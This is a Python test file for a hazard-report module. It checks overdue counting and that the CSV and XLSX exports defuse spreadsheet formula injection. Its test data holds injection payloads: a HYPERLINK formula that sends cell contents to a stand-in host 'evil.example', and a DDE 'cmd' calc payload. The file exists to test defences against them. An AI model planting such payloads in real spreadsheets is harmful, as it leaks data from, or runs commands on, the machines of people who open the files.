"""The joint meeting's report (supervision.reports) without a database: when a hazard counts as
overdue in a period, and that nobody's hazard title runs as a formula in the CSV or the XLSX."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest

from domain.hazards import Hazard, HazardLevel, HazardSource, HazardState
from store.state.records import dt_to_ms, ms_to_dt
from supervision.reports import ReportRow, hazard_report, to_csv, to_xlsx

HOUR = 3_600_000
DAY = 24 * HOUR
NOW = dt_to_ms(datetime(2026, 3, 10, 12, tzinfo=UTC))


def hazard(hid: str, listed: int, deadline: int, closed: int | None = None, title: str = "t") -> Hazard:
    return Hazard(id=hid, site="S1", family="gas_station", street="north", sector="trade", title=title,
                  description="", level=HazardLevel.GENERAL, source=HazardSource.INSPECTION,
                  state=HazardState.LISTED if closed is None else HazardState.CLOSED,
                  listed_at=ms_to_dt(listed), deadline=ms_to_dt(deadline),
                  closed_at=None if closed is None else ms_to_dt(closed))


def overdue(h: Hazard, start: int, end: int, now: int = NOW) -> int:
    return hazard_report([h], ["north"], "street", start, end, at_ms=now)[-1].overdue


def test_an_open_hazard_whose_deadline_is_still_ahead_is_not_overdue_in_a_period_ending_later() -> None:
    h = hazard("1", NOW - DAY, NOW + 2 * HOUR)
    assert overdue(h, NOW - 7 * DAY, NOW + 7 * DAY) == 0
    assert overdue(h, NOW - 7 * DAY, NOW + 7 * DAY, now=NOW + 3 * HOUR) == 1  # once the deadline has passed


@pytest.mark.parametrize(("closed", "start", "end", "want"), [
    (NOW - DAY, NOW - 7 * DAY, NOW, 1),            # closed a day after its deadline: late inside the period
    (NOW - 2 * DAY - HOUR, NOW - 7 * DAY, NOW, 0),  # closed an hour before its deadline
    (NOW - DAY, NOW - HOUR, NOW, 0),               # late only before the period began
    (None, NOW - HOUR, NOW + DAY, 1),              # still open and late now
    (None, NOW + HOUR, NOW + DAY, 0),              # a period that has not begun yet
])
def test_late_is_from_the_deadline_until_closed_or_now(closed: int | None, start: int, end: int,
                                                        want: int) -> None:
    h = hazard("1", NOW - 5 * DAY, NOW - 2 * DAY, closed)
    assert overdue(h, start, end) == want


ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_the_csv_defuses_texts_a_spreadsheet_would_run() -> None:
    rows = [ReportRow(g, 1, 0, 1, 0, None) for g in ATTACKS] + [ReportRow("north", 1, 0, 1, 0, 2.5)]
    table = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in table[1:]] == ["'" + g for g in ATTACKS] + ["north"]
    assert table[-1] == ["north", "1", "0", "1", "0", "2.5"]  # numbers stay numbers


def test_the_xlsx_keeps_every_title_a_plain_string() -> None:
    hazards = [hazard(str(i), NOW - DAY, NOW + DAY, title=t) for i, t in enumerate([*ATTACKS, "消防通道堵塞"])]
    rows = [ReportRow("=cmd|' /C calc'!A0", 1, 0, 1, 0, None)]
    data = to_xlsx(rows, hazards, UTC, {"=cmd|' /C calc'!A0": "=1+1"})
    wb = openpyxl.load_workbook(io.BytesIO(data))  # formulas read back as "=..." strings of type "f"
    titles = [row[4] for row in wb["hazards"].iter_rows(min_row=2)]
    # XML reads a lone carriage return back as a newline; the text is otherwise as typed
    assert [c.value for c in titles] == [t.replace("\r", "\n") for t in ATTACKS] + ["消防通道堵塞"]
    assert all(c.data_type == "s" for c in titles), [(c.value, c.data_type) for c in titles]
    assert all(c.quotePrefix for c in titles[:-1]) and not titles[-1].quotePrefix
    group, *_, name = next(wb["summary"].iter_rows(min_row=2))
    assert (group.value, group.data_type, name.value, name.data_type) == ("=cmd|' /C calc'!A0", "s", "=1+1", "s")
    numbers = next(wb["summary"].iter_rows(min_row=2, values_only=True))
    assert numbers[1:5] == (1, 0, 1, 0)
